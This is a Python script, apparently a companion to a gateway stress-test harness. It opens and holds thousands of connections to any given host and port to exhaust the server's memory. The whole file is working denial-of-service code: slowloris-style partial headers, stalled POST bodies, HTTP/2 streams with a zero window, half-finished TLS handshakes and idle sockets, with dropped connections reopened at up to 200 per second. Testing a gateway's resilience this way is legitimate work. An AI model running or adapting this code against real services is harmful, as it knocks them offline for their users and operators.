"""Clients of `attacks.py --only connections`: many connections that make a gateway hold memory, each for as long as it is let.

    python3 attack_holders.py KIND HOST PORT COUNT SOURCE     prints `ready` once all have begun; ends with its standard input

One that is cut begins again, at most AGAIN a second, so that there are always about as many. Nothing is read of what comes.
"""

import select
import socket
import ssl
import struct
import sys
import time

# How many begin again in a second, and how many begin without a pause at first.
AGAIN, AT_ONCE = 200, 50
# Streams of each connection of HTTP/2: as many as the gateway allows.
STREAMS = 128
HEAD = b"%s HTTP/1.1\r\nHost: h\r\n%s"


def fill(length):
    """Lines of a head, about so long in all."""
    return b"".join(b"X-%d: %s\r\n" % (n, b"x" * min(length - 4000 * n, 4000)) for n in range(-(-length // 4000)))


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams(count, method=0x82, path=b"/", flags=5):
    """A connection that gives no window, with so many requests."""
    # Literal fields without Huffman's code, never indexed but for the pseudo-header fields of the static table.
    fields = bytes([method, 0x86, 0x04, len(path)]) + path + bytes([0x01, 1]) + b"h"
    first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0))
    return first + b"".join(frame(1, flags, 2 * n + 1, fields) for n in range(count))


def client_hello():
    """The first message of TLS, with all that a client says in it."""
    context = ssl.create_default_context()
    sent = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


# What each client of a kind sends: little, so that all are kept, and much, so that the bounds of all together are reached.
KINDS = {
    "heads, short": lambda: HEAD % (b"GET /", fill(500)),
    "heads, long": lambda: HEAD % (b"GET /", fill(30_000)),
    "bodies without their byte, short heads": lambda: HEAD % (b"POST /", b"Content-Length: 1\r\n\r\n"),
    "bodies without their byte, long heads": lambda: HEAD % (b"POST /", fill(30_000) + b"Content-Length: 1\r\n\r\n"),
    "bodies that stall": lambda: HEAD % (b"POST /", b"Content-Length: 1000000\r\n\r\n") + b"x" * 66_000,
    "standing readers": lambda: HEAD % (b"GET /large", b"\r\n"),
    "HTTP/2, no request": lambda: streams(0),
    "HTTP/2, a reader without a window": lambda: streams(1, path=b"/large"),
    "HTTP/2, readers without a window": lambda: streams(STREAMS, path=b"/large"),
    "HTTP/2, bodies without a byte": lambda: streams(STREAMS, method=0x83, flags=4),
    "TLS, no handshake": lambda: b"",
    "TLS, unfinished handshakes": client_hello,
    "TLS, finished handshakes": lambda: b"",
    "TLS, HTTP/2, no request": lambda: b"",
    "idle": lambda: b"",
}
# What these agree on in a whole handshake; it takes no part of the connection's first bytes.
AGREED = {"TLS, finished handshakes": "http/1.1", "TLS, HTTP/2, no request": "h2"}


def shake_hands(client, protocol):
    """A whole handshake, of which this end then forgets all but the socket: it would take more memory than the gateway's end."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    session = context.wrap_socket(client, server_hostname="localhost")
    if protocol == "h2":
        session.sendall(streams(0))
    return socket.socket(fileno=session.detach())


class Holders:
    """The connections of this process."""

    def __init__(self, kind, address, count, source):
        self.first, self.address, self.count, self.source = KINDS[kind](), address, count, source
        self.agreed = AGREED.get(kind)
        self.poll, self.open = select.epoll(), {}

    def begin(self):
        """One more connection. What the gateway's kernel does not take at once stays unsent."""
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 256 * 1024)
        try:
            client.bind((self.source, 0))
            client.settimeout(10)
            client.connect(self.address)
            client = shake_hands(client, self.agreed) if self.agreed else client
            client.setblocking(False)
            client.send(self.first) if self.first else None
        except OSError:
            client.close()
            return
        self.open[client.fileno()] = client
        self.poll.register(client, select.EPOLLRDHUP)

    def look(self, seconds):
        """Closes those that the gateway has cut."""
        for number, _ in self.poll.poll(seconds):
            # A reset leaves nothing in the kernel.
            self.open.pop(number).close()

    def hold(self):
        """Until the standard input ends."""
        for number in range(self.count):
            self.begin()
            if number % AT_ONCE == AT_ONCE - 1:
                self.look(0.02)
        print("ready", flush=True)
        while not select.select([sys.stdin], [], [], 0)[0]:
            since = time.monotonic()
            for _ in range(min(AGAIN // 10, self.count - len(self.open))):
                self.begin()
            while time.monotonic() < since + 0.1:
                self.look(0.05)


if __name__ == "__main__":
    Holders(sys.argv[1], (sys.argv[2], int(sys.argv[3])), int(sys.argv[4]), sys.argv[5]).hold()
